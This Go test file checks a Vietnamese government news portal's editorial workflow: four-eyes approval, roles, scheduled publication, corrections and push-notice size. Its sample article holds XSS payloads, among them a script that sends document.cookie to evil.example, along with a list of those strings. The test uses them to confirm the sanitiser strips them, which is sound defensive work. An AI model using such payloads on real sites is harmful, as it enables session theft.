package portal_test

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"log/slog"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/loa-hub/loa"
	"github.com/loa-hub/loa/accounts"
	"github.com/loa-hub/loa/channels"
	"github.com/loa-hub/loa/channels/fcm"
	"github.com/loa-hub/loa/internal/sqlstore"
	"github.com/loa-hub/loa/internal/testenv"
	"github.com/loa-hub/loa/internal/topics"
	"github.com/loa-hub/loa/producer"
	"github.com/loa-hub/loa/producer/portal"
	"github.com/loa-hub/loa/producer/producertest"
)

type grants struct{ db *sqlstore.DB }

// Independent admits every approver here: the line of appointment is the
// accounts service's (TestNoPuppetsAtTheDesk in api checks it at the desk).
func (g grants) Independent(context.Context, string, ...string) error { return nil }

func (g grants) Grants(ctx context.Context, id string) ([]portal.Grant, error) {
	gs, err := g.db.RoleGrants(ctx, id)
	var out []portal.Grant
	for _, x := range gs {
		out = append(out, portal.Grant{Unit: x.Unit, Role: string(x.Role)})
	}
	return out, err
}

type rig struct {
	t      *testing.T
	db     *sqlstore.DB
	svc    *portal.Service
	pub    *producertest.Recorder
	outbox *producer.Outbox
	now    time.Time
}

func newRig(t *testing.T, db *sqlstore.DB) *rig {
	ctx := context.Background()
	r := &rig{t: t, db: db, pub: &producertest.Recorder{}, now: time.Date(2026, 11, 23, 8, 0, 0, 0, time.UTC)}
	log := slog.New(slog.NewTextHandler(io.Discard, nil))
	svc, err := portal.New(portal.DefaultConfig(), portal.Deps{Store: db, Roles: grants{db}, Log: log, Now: func() time.Time { return r.now }})
	if err != nil {
		t.Fatal(err)
	}
	r.svc = svc
	r.outbox = producer.NewOutbox(db, r.pub, log)
	r.outbox.Now = func() time.Time { return r.now }
	for _, c := range []portal.Category{
		{Code: "tin-tuc", Name: "Tin tức", NameEN: "News", Unit: "vp-ubnd", Topic: "news"},
		{Code: "thong-bao", Name: "Thông báo", Unit: "sotttt", Topic: "disaster"},
	} {
		if err := db.PutPortalCategory(ctx, c); err != nil {
			t.Fatal(err)
		}
	}
	r.official("editor-1", "vp-ubnd", portal.RoleEditor)
	r.official("editor-2", "vp-ubnd", portal.RoleEditor)
	r.official("chief", "vp-ubnd", portal.RoleChiefEditor)
	r.official("chief-editor", "vp-ubnd", portal.RoleChiefEditor) // also an editor
	r.official("chief-editor", "vp-ubnd", portal.RoleEditor)
	r.official("chief-other", "sotttt", portal.RoleChiefEditor)
	return r
}

func (r *rig) official(id, unit, role string) {
	ctx := context.Background()
	if _, err := r.db.Account(ctx, id); err != nil {
		if err := r.db.CreateAccount(ctx, accounts.Account{ID: id, Kind: accounts.KindOfficial, Status: accounts.StatusActive,
			Username: id, Unit: unit, CreatedAt: r.now}); err != nil {
			r.t.Fatal(err)
		}
	}
	if err := r.db.GrantRole(ctx, id, accounts.RoleGrant{Unit: unit, Role: accounts.Role(role)}, "test", r.now); err != nil {
		r.t.Fatal(err)
	}
}

func ed(id string) portal.Actor { return portal.Actor{AccountID: id} }

func code(err error) string {
	if e, ok := errors.AsType[*loa.Error](err); ok {
		return e.Code
	}
	if err == nil {
		return "nil"
	}
	return "not a loa.Error: " + err.Error()
}

var article = portal.Input{Category: "tin-tuc",
	VI: portal.TextInput{Title: "Hội An đón khách dịp lễ hội đèn lồng", Summary: "Phố cổ <b>rực rỡ</b>",
		Body: `<p onclick="steal()">Tối nay <a href="javascript:alert(1)">phố cổ</a> <a href="https://hoian.gov.vn">tắt đèn</a>.</p>` +
			`<script>document.location='https://evil.example/?c='+document.cookie</script><img src="x" onerror="alert(2)"><iframe src="https://evil.example"></iframe>` +
			`<p style="color:red">Chi tiết</p>`},
	EN: &portal.TextInput{Title: "Hoi An lantern festival", Body: "<p>Tonight the old town turns off its lights.</p>"}}

// publish has editor-1 write and submit in, and the chief approve it.
func (r *rig) publish(ctx context.Context, in portal.Input) portal.Article {
	r.t.Helper()
	a, err := r.svc.Create(ctx, ed("editor-1"), in)
	if err != nil {
		r.t.Fatal(err)
	}
	if _, err := r.svc.Submit(ctx, ed("editor-1"), a.ID); err != nil {
		r.t.Fatal(err)
	}
	if _, err := r.svc.Approve(ctx, ed("chief"), a.ID, portal.Approval{}); err != nil {
		r.t.Fatal(err)
	}
	return a
}

// published polls the outbox and returns the plans it published.
func (r *rig) published() []producer.Envelope {
	for {
		n, err := r.outbox.Poll(context.Background())
		if err != nil {
			r.t.Fatal(err)
		}
		if n == 0 {
			return r.pub.Take()
		}
	}
}

func TestFourEyesAndPublication(t *testing.T) {
	for name, db := range testenv.Stores(t) {
		t.Run(name, func(t *testing.T) {
			r := newRig(t, db)
			ctx := context.Background()
			if _, err := r.svc.Create(ctx, ed("chief-other"), article); code(err) != loa.EForbidden {
				t.Errorf("a chief editor of another unit drafts: %v", err)
			}
			a, err := r.svc.Create(ctx, ed("chief-editor"), article)
			if err != nil {
				t.Fatal(err)
			}
			// Sanitised: no script, no event handler, no javascript: URL, no iframe, no style.
			for _, bad := range []string{"script", "onclick", "onerror", "javascript:", "iframe", "style=", "document.cookie"} {
				if strings.Contains(a.VI.Body, bad) {
					t.Errorf("body keeps %q: %s", bad, a.VI.Body)
				}
			}
			if !strings.Contains(a.VI.Body, `<a href="https://hoian.gov.vn" rel="nofollow">tắt đèn</a>`) || a.VI.Summary != "Phố cổ rực rỡ" {
				t.Errorf("body %s, summary %q", a.VI.Body, a.VI.Summary)
			}
			if a.VI.Slug != "hoi-an-don-khach-dip-le-hoi-den-long" || a.EN.Slug != "hoi-an-lantern-festival" {
				t.Errorf("slugs %q %q", a.VI.Slug, a.EN.Slug)
			}
			// Another editor of the unit edits it: a new revision.
			in := article
			in.VI.Title = "Hội An đón khách dịp lễ hội đèn lồng rằm tháng Mười"
			in.VI.Slug = "hoi-an-le-hoi-den-long"
			a, err = r.svc.Edit(ctx, ed("editor-2"), a.ID, in)
			if err != nil || a.Revision != 2 {
				t.Fatalf("edit: %v rev %d", err, a.Revision)
			}
			if _, err := r.svc.Approve(ctx, ed("chief"), a.ID, portal.Approval{}); code(err) != loa.EConflict {
				t.Errorf("approve a draft: %v", err)
			}
			if _, err := r.svc.Submit(ctx, ed("chief-editor"), a.ID); err != nil {
				t.Fatal(err)
			}
			// Four eyes: the chief editor who wrote it may not approve it; one of another unit neither.
			if _, err := r.svc.Approve(ctx, ed("chief-editor"), a.ID, portal.Approval{}); code(err) != loa.EFourEyes {
				t.Errorf("approving one's own article: %v", err)
			}
			if err := r.svc.Check(ctx, ed("chief-other"), a.ID, "approve"); code(err) != loa.EForbidden {
				t.Errorf("chief editor of another unit: %v", err)
			}
			if err := r.svc.Check(ctx, ed("editor-1"), a.ID, "approve"); code(err) != loa.EForbidden {
				t.Errorf("an editor approves: %v", err)
			}
			if _, err := r.svc.Return(ctx, ed("chief"), a.ID, ""); code(err) != loa.EInvalid {
				t.Errorf("return without comment: %v", err)
			}
			a, err = r.svc.Return(ctx, ed("chief"), a.ID, "Thêm giờ tắt đèn")
			if err != nil || a.Status != portal.StatusReturned {
				t.Fatal(err)
			}
			if _, err := r.svc.Edit(ctx, ed("editor-1"), a.ID, in); err != nil {
				t.Fatal(err)
			}
			if _, err := r.svc.Submit(ctx, ed("editor-1"), a.ID); err != nil {
				t.Fatal(err)
			}
			if len(r.published()) != 0 {
				t.Fatal("published before approval")
			}
			if _, err := r.svc.PublicArticle(ctx, "hoi-an-le-hoi-den-long"); code(err) != loa.ENotFound {
				t.Errorf("public before approval: %v", err)
			}
			// Approved for tomorrow 07:00: nothing before, the push at that time.
			at := r.now.Add(23 * time.Hour)
			a, err = r.svc.Approve(ctx, ed("chief"), a.ID, portal.Approval{PublishAt: at})
			if err != nil || a.Status != portal.StatusScheduled {
				t.Fatalf("approve: %v %s", err, a.Status)
			}
			r.now = at.Add(-time.Second)
			if len(r.published()) != 0 {
				t.Error("pushed before the publication time")
			}
			if list, _ := r.svc.Public(ctx, "tin-tuc", "vi", 10); len(list) != 0 {
				t.Error("listed before the publication time")
			}
			r.now = at
			envs := r.published()
			if len(envs) != 1 || envs[0].Kind != producer.KindPlan || envs[0].Lane != topics.LaneBulk {
				t.Fatalf("publication: %+v", envs)
			}
			var p producer.Plan
			json.Unmarshal(envs[0].Payload, &p)
			if strings.Join(p.Audience.Topics, ",") != "news" || p.Title != in.VI.Title || !strings.HasSuffix(p.Data["url"], "/v1/portal/articles/hoi-an-le-hoi-den-long") {
				t.Errorf("plan %+v", p)
			}
			if got, err := r.svc.PublicArticle(ctx, "hoi-an-lantern-festival"); err != nil || got.ID != a.ID {
				t.Errorf("public by the English slug: %v", err)
			}
			if list, _ := r.svc.Public(ctx, "tin-tuc", "en", 10); len(list) != 1 {
				t.Errorf("English list: %d", len(list))
			}
			// A correction by the chief editor: a new revision, live at once.
			in.VI.Body = "<p>Đính chính: tắt đèn lúc 19 giờ.</p>"
			a, err = r.svc.Correct(ctx, ed("chief"), a.ID, in)
			if err != nil {
				t.Fatal(err)
			}
			if _, err := r.svc.Correct(ctx, ed("editor-1"), a.ID, in); code(err) != loa.EForbidden {
				t.Errorf("an editor corrects a published article: %v", err)
			}
			revs, err := r.svc.Revisions(ctx, ed("editor-1"), a.ID)
			var notes []string
			for _, x := range revs {
				notes = append(notes, x.Note)
			}
			if err != nil || strings.Join(notes, ",") != "draft,edit,edit,correction" || revs[0].VI.Slug != "hoi-an-don-khach-dip-le-hoi-den-long" {
				t.Errorf("revisions %v %v", notes, err)
			}
			if got, _ := r.svc.PublicArticle(ctx, "hoi-an-le-hoi-den-long"); !strings.Contains(got.VI.Body, "Đính chính") {
				t.Errorf("the correction is not live: %s", got.VI.Body)
			}
			if _, err := r.svc.Unpublish(ctx, ed("chief"), a.ID); err != nil {
				t.Fatal(err)
			}
			if _, err := r.svc.PublicArticle(ctx, "hoi-an-le-hoi-den-long"); code(err) != loa.ENotFound {
				t.Errorf("public after unpublishing: %v", err)
			}
			h, _ := r.svc.History(ctx, ed("chief"), a.ID)
			var steps []string
			for _, e := range h {
				steps = append(steps, e.Action)
			}
			if strings.Join(steps, ",") != "create,edit,submit,return,edit,submit,approve,correct,unpublish" {
				t.Errorf("history %v", steps)
			}
		})
	}
}

// TestUrgentAndCancelled: an urgent article is pushed on the direct lane
// at once; a scheduled one unpublished before its time is never pushed.
func TestUrgentAndCancelled(t *testing.T) {
	r := newRig(t, testenv.Stores(t)["sqlite"])
	ctx := context.Background()
	mk := func(title string) portal.Article {
		in := portal.Input{Category: "tin-tuc", VI: portal.TextInput{Title: title, Body: "<p>Nội dung</p>"}}
		a, err := r.svc.Create(ctx, ed("editor-1"), in)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := r.svc.Submit(ctx, ed("editor-1"), a.ID); err != nil {
			t.Fatal(err)
		}
		return a
	}
	u := mk("Khẩn: sơ tán dân vùng trũng")
	if _, err := r.svc.Approve(ctx, ed("chief"), u.ID, portal.Approval{Urgent: true}); err != nil {
		t.Fatal(err)
	}
	envs := r.published()
	if len(envs) != 1 || envs[0].Lane != topics.LaneDirect {
		t.Fatalf("urgent: %+v", envs)
	}
	s := mk("Lịch cắt điện tuần sau")
	if _, err := r.svc.Approve(ctx, ed("chief"), s.ID, portal.Approval{PublishAt: r.now.Add(time.Hour)}); err != nil {
		t.Fatal(err)
	}
	if _, err := r.svc.Unpublish(ctx, ed("chief"), s.ID); err != nil {
		t.Fatal(err)
	}
	r.now = r.now.Add(2 * time.Hour)
	if envs := r.published(); len(envs) != 0 {
		t.Errorf("pushed after unpublishing: %+v", envs)
	}
	if _, err := r.svc.Create(ctx, ed("editor-1"), portal.Input{Category: "tin-tuc", VI: portal.TextInput{Title: "Khẩn: sơ tán dân vùng trũng", Body: "<p>x</p>"}}); code(err) != loa.EInvalid {
		t.Errorf("a taken slug: %v", err)
	}
	if _, err := r.svc.Create(ctx, ed("editor-1"), portal.Input{Category: "tin-tuc", VI: portal.TextInput{Title: "<script>x</script>", Body: "<script>alert(1)</script>"}}); code(err) != loa.EInvalid {
		t.Errorf("a body of nothing but script: %v", err)
	}
}

// TestCategoryTopicIsASubscriptionTopic: a category's publications go to
// the subscribers of its topic, so a topic nobody can subscribe to is
// refused, naming the field; a known topic (or none) is taken.
func TestCategoryTopicIsASubscriptionTopic(t *testing.T) {
	db := testenv.OpenStore(t, testenv.SQLiteURL(t))
	cfg := portal.DefaultConfig()
	cfg.Topics = accounts.DefaultTopics
	svc, err := portal.New(cfg, portal.Deps{Store: db, Roles: grants{db}, Log: slog.New(slog.NewTextHandler(io.Discard, nil))})
	if err != nil {
		t.Fatal(err)
	}
	ctx := context.Background()
	admin := portal.Actor{AdminKey: true}
	_, err = svc.PutCategory(ctx, admin, portal.Category{Code: "tin-tuc", Name: "Tin tức", Unit: "vp-ubnd", Topic: "news"})
	if e, ok := errors.AsType[*loa.Error](err); !ok || e.Code != loa.EInvalid || len(e.Fields) != 1 || e.Fields[0].Field != "topic" {
		t.Fatalf("topic news: %v, want a refusal of the field topic", err)
	}
	for _, topic := range []string{"general", ""} {
		if _, err := svc.PutCategory(ctx, admin, portal.Category{Code: "tin-tuc", Name: "Tin tức", Unit: "vp-ubnd", Topic: topic}); err != nil {
			t.Errorf("topic %q: %v", topic, err)
		}
	}
}

// TestFourEyesCountsEveryAuthor: whoever wrote any of an article before
// its approval (drafted, edited, set the cover, submitted) does not
// approve it, nor put a correction of it live; a chief editor who wrote
// none of it does both.
func TestFourEyesCountsEveryAuthor(t *testing.T) {
	r := newRig(t, testenv.Stores(t)["sqlite"])
	ctx := context.Background()
	a, err := r.svc.Create(ctx, ed("editor-1"), portal.Input{Category: "tin-tuc", VI: portal.TextInput{Title: "Lịch tiếp dân tháng 12", Body: "<p>Thứ Hai hằng tuần.</p>"}})
	if err != nil {
		t.Fatal(err)
	}
	// A chief editor who is also an editor rewrites the draft; editor-1 submits it.
	in := portal.Input{VI: portal.TextInput{Title: "Lịch tiếp dân tháng 12", Body: "<p>Thứ Hai và thứ Năm hằng tuần.</p>"}}
	if _, err := r.svc.Edit(ctx, ed("chief-editor"), a.ID, in); err != nil {
		t.Fatal(err)
	}
	if _, err := r.svc.Submit(ctx, ed("editor-1"), a.ID); err != nil {
		t.Fatal(err)
	}
	if _, err := r.svc.Approve(ctx, ed("chief-editor"), a.ID, portal.Approval{}); code(err) != loa.EFourEyes {
		t.Errorf("approval by a chief editor who edited the draft: %v, want four-eyes", err)
	}
	if err := r.svc.Check(ctx, ed("chief-editor"), a.ID, "approve"); code(err) != loa.EFourEyes {
		t.Errorf("check before the body: %v, want four-eyes", err)
	}
	if _, err := r.svc.Approve(ctx, ed("chief"), a.ID, portal.Approval{}); err != nil {
		t.Fatalf("approval by a chief editor who wrote none of it: %v", err)
	}
	// Published: the chief editor who wrote part of it does not correct it
	// (a correction is live at once, approved by nobody else).
	in.VI.Body = "<p>Thứ Hai hằng tuần; thứ Năm nghỉ.</p>"
	if _, err := r.svc.Correct(ctx, ed("chief-editor"), a.ID, in); code(err) != loa.EFourEyes {
		t.Errorf("correction by a chief editor who edited the draft: %v, want four-eyes", err)
	}
	if err := r.svc.CoverCheck(ctx, ed("chief-editor"), a.ID); code(err) != loa.EFourEyes {
		t.Errorf("a new cover by a chief editor who edited the draft: %v, want four-eyes", err)
	}
	if _, err := r.svc.Correct(ctx, ed("chief"), a.ID, in); err != nil {
		t.Fatalf("correction by the approver: %v", err)
	}
	// The approver's own correction does not bar them from correcting again.
	in.VI.Body = "<p>Thứ Hai hằng tuần.</p>"
	if _, err := r.svc.Correct(ctx, ed("chief"), a.ID, in); err != nil {
		t.Errorf("second correction by the approver: %v", err)
	}
}

// TestPlainTextIsText: titles, summaries and comments lose their markup
// but stay text: "&", quotes and "<" typed by an editor are kept as
// characters, not HTML entities (which a push, the JSON and the Atom feed
// would otherwise show as "&amp;"), and they are NFC.
func TestPlainTextIsText(t *testing.T) {
	for in, want := range map[string]string{
		`Sở TN&MT: "Hội An" <b>đẹp</b> & 5 > 3`:  `Sở TN&MT: "Hội An" đẹp & 5 > 3`,
		"<script>alert(1)</script>Lịch cắt điện": "Lịch cắt điện",
		"Ho\u0302\u0323i An":                     "Hội An", // NFD in, NFC out
		"&lt;b&gt; is a tag":                     "<b> is a tag",
	} {
		if got := portal.PlainText(in); got != want {
			t.Errorf("PlainText(%q) = %q, want %q", in, got, want)
		}
	}
	if got := portal.Sanitize("<p>Ho\u0302\u0323i An &amp; <b>Tam Kỳ</b></p>"); got != "<p>Hội An &amp; <b>Tam Kỳ</b></p>" {
		t.Errorf("Sanitize keeps HTML, NFC: %q", got)
	}
	if got := portal.Slugify(portal.PlainText("Sở TN&MT thông báo")); got != "so-tn-mt-thong-bao" {
		t.Errorf("slug %q", got)
	}
}

// TestTheNoticeFitsAPush: the push telling subscribers of an article
// carries its title and summary, which may be far longer (300 and 1,000
// characters, three bytes each in Vietnamese, six for an escaped '&') than
// FCM takes (4,096 bytes of JSON, less what the dispatcher adds per
// device): every push of a longer notice would fail. The notice is cut to
// fit; the article itself, at its address, is whole (a slug, in the
// push's link, is at most 80 characters).
func TestTheNoticeFitsAPush(t *testing.T) {
	r := newRig(t, testenv.OpenStore(t, testenv.SQLiteURL(t)))
	ctx := context.Background()
	in := portal.Input{Category: "tin-tuc", VI: portal.TextInput{Title: strings.Repeat("ệ&", 150),
		Summary: strings.Repeat("ễ&", 500), Body: "<p>Toàn văn.</p>", Slug: strings.Repeat("a", 80)}}
	r.publish(ctx, in)
	envs := r.published()
	if len(envs) != 1 {
		t.Fatalf("%d published", len(envs))
	}
	var p producer.Plan
	if err := json.Unmarshal(envs[0].Payload, &p); err != nil {
		t.Fatal(err)
	}
	m := channels.Message{Title: p.Title, Body: p.Body, Data: p.Data}
	if n := fcm.PayloadSize(m); n > fcm.MaxPayload-300 {
		t.Errorf("the notice's push is %d bytes; FCM takes %d, less 300 for the dispatcher", n, fcm.MaxPayload)
	}
	if !strings.HasPrefix(p.Title, "ệ&ệ&") || !strings.HasSuffix(p.Title, "…") || !strings.HasPrefix(p.Body, "ễ&") || !utf8.ValidString(p.Title+p.Body) {
		t.Errorf("the notice: title %q body %q", p.Title, p.Body)
	}
}
